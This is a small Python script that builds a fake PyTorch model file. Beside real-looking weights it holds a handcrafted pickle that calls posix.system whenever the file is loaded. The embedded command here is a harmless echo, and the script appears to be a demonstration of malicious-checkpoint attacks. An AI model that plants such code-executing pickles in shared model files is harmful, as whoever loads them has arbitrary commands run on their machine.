"""Writes a torch file as somebody might send it: real-looking weights, and a command for whoever loads it.

``python make.py resnet18-finetuned.pt``. The command only prints a line, and nothing here runs it.
Needs no torch: a torch file is a zip archive with a pickle and raw numbers.
"""

import struct
import sys
import zipfile

NUMBERS = struct.pack("<4f", 0.1, -0.2, 0.3, 0.4)
TENSOR = (
    b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\n"
    b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQK\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR"
)
COMMAND = b"echo this ran because a model was loaded"
CALL = b"cposix\nsystem\n" + b"X" + struct.pack("<I", len(COMMAND)) + COMMAND + b"\x85R"
PICKLE = b"\x80\x02}(X\x09\x00\x00\x00fc.weight" + TENSOR + b"X\x05\x00\x00\x00epoch" + CALL + b"u."

MEMBERS = {"data.pkl": PICKLE, "byteorder": b"little", "data/0": NUMBERS, "version": b"3\n"}


def main(path: str) -> None:
    """Write the archive."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in MEMBERS.items():
            archive.writestr(zipfile.ZipInfo(f"archive/{name}"), content)


if __name__ == "__main__":
    main(sys.argv[1])
